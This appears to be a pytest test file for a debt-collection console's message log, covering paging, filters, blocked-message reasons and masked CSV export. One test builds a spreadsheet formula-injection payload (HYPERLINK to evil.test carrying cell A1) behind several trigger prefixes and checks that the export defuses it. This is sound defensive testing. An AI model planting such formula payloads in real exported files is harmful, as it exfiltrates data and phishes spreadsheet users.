"""The message log as an agent uses it: paged newest first by a cursor, filtered to the message
that was blocked and why, exported as CSV (masked)."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from outreach.db.models import Account, Debtor, Message
from outreach.runtime import Runtime
from tests.console_helpers import add_messages
from tests.factories import add_debtor

BLOCKED = {
    "state": "blocked",
    "rules": ["F6"],
    "reasons": ["The consumer asked us in writing to stop communicating."],
}


def _ids(html: str) -> list[int]:
    return [int(i) for i in re.findall(r'<a href="/console/messages/(\d+)">', html)]


def test_the_log_pages_newest_first_with_a_cursor_that_visits_each_row_once(
    console: tuple[Runtime, TestClient, str],
) -> None:
    runtime, client, _ = console
    debtor, account = add_debtor(runtime.factory, runtime.clock.now())
    ids = add_messages(runtime, debtor, account, [{} for _ in range(23)])
    seen: list[int] = []
    url = "/console/log"
    while url:
        page = client.get(url)
        assert page.status_code == 200
        seen += _ids(page.text)
        older = re.search(r'<a href="(\?[^"]+)" rel="next">', page.text)
        url = "/console/log" + older.group(1).replace("&amp;", "&") if older else ""
    assert seen == sorted(ids, reverse=True)


def test_log_filters_find_the_message_and_show_why_it_was_blocked(
    console: tuple[Runtime, TestClient, str],
) -> None:
    runtime, client, _ = console
    now = runtime.clock.now()
    maria, maria_account = add_debtor(runtime.factory, now)
    john, john_account = add_debtor(runtime.factory, now, first="John", last="Doe")
    sent, blocked = add_messages(runtime, maria, maria_account, [{}, BLOCKED])
    (email,) = add_messages(
        runtime,
        john,
        john_account,
        [{"channel": "email", "to": "john@example.com", "template": "email/first_reminder"}],
    )
    (old,) = add_messages(
        runtime, john, john_account, [{"campaign": "hardship"}], at=now - timedelta(days=40)
    )

    def found(query: str) -> list[int]:
        page = client.get(f"/console/log?{query}")
        assert page.status_code == 200, page.text
        return _ids(page.text)

    assert found("") == sorted([old, email, blocked, sent], reverse=True)
    assert found("state=blocked&rule=F6") == [blocked]
    empty = "debtor=&account=&address=&channel=&state=&rule=&campaign=&since=&until="
    assert found(empty) == found("")  # the filter form sends every field, most empty
    assert found("rule=F1") == []
    assert found("channel=email") == [email]
    assert found("address=(212)+555-0143") == [old, blocked, sent]  # any phone format
    assert found("address=JOHN@example.com") == [email]
    assert found("campaign=hardship") == [old]
    since = (now - timedelta(days=1)).date().isoformat()
    assert old not in found(f"since={since}")
    assert found(f"until={(now - timedelta(days=39)).date().isoformat()}") == [old]
    debtor_ext = client.get(f"/console/debtors/{maria}").text.split("<small>")[1][:6]
    assert found(f"debtor={debtor_ext}") == [blocked, sent]

    page = client.get("/console/log?state=blocked").text
    assert "The consumer asked us in writing to stop communicating." in page
    assert 'title="Consumer asked to cease communication">F6</abbr>' in page
    assert "+12125550143" not in page and "********0143" in page  # masked in lists
    assert f'href="/console/debtors/{maria}"' in page

    bad = client.get("/console/log?state=lost&since=yesterday")
    assert bad.status_code == 422
    assert (
        "state: Input should be" in bad.text and "since: Input should be a valid date" in bad.text
    )


def test_the_csv_export_streams_the_filtered_set_masked(
    console: tuple[Runtime, TestClient, str],
) -> None:
    runtime, client, _ = console
    debtor, account = add_debtor(runtime.factory, runtime.clock.now())
    add_messages(runtime, debtor, account, [{}, BLOCKED, {}, BLOCKED])
    response = client.get("/console/log.csv?state=blocked")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 2 and {r["state"] for r in rows} == {"blocked"}
    assert rows[0]["rules"] == "F6" and rows[0]["to"] == "********0143"
    assert "+12125550143" not in response.text and "4000123412" not in response.text


# Each way a spreadsheet may start a formula (OWASP CSV Injection), and a full-width sign
# and one behind spaces, as imported ids and texts could carry them.
FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "  ="]
TRIGGERS = set("=+-@\t\r\n\uff1d")


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_no_cell_of_the_csv_export_can_start_a_formula(
    console: tuple[Runtime, TestClient, str], prefix: str
) -> None:
    runtime, client, _ = console
    payload = prefix + 'HYPERLINK("https://evil.test/?"&A1,"Pay")'
    debtor, account = add_debtor(runtime.factory, runtime.clock.now())
    (message,) = add_messages(
        runtime, debtor, account, [{**BLOCKED, "reasons": [payload], "step": payload}]
    )
    with runtime.factory.begin() as session:
        session.execute(update(Debtor).where(Debtor.id == debtor).values(external_id=payload))
        session.execute(update(Account).where(Account.id == account).values(external_id=payload))
        session.execute(update(Message).where(Message.id == message).values(error_message=payload))
    response = client.get("/console/log.csv")
    assert response.status_code == 200
    (header, row) = list(csv.reader(io.StringIO(response.text)))
    cells = dict(zip(header, row, strict=True))
    for column in ("debtor", "account", "step", "reasons", "error"):
        assert cells[column] == "'" + payload, column
    assert cells["id"] == str(message) and cells["to"] == "********0143"
    assert not [c for c in row if c[:1] in TRIGGERS or c.lstrip()[:1] in TRIGGERS]


def test_the_rule_filter_matches_the_rule_id_exactly_underscore_and_all(
    console: tuple[Runtime, TestClient, str],
) -> None:
    """`_` is a LIKE wildcard: F_1 must not find a message blocked by FX1."""
    runtime, client, _ = console
    debtor, account = add_debtor(runtime.factory, runtime.clock.now())
    underscored, other = add_messages(
        runtime, debtor, account, [{**BLOCKED, "rules": ["F_1"]}, {**BLOCKED, "rules": ["FX1"]}]
    )
    assert _ids(client.get("/console/log?rule=F_1").text) == [underscored]
    assert _ids(client.get("/console/log?rule=FX1").text) == [other]
    rows = list(csv.DictReader(io.StringIO(client.get("/console/log.csv?rule=F_1").text)))
    assert [int(r["id"]) for r in rows] == [underscored]
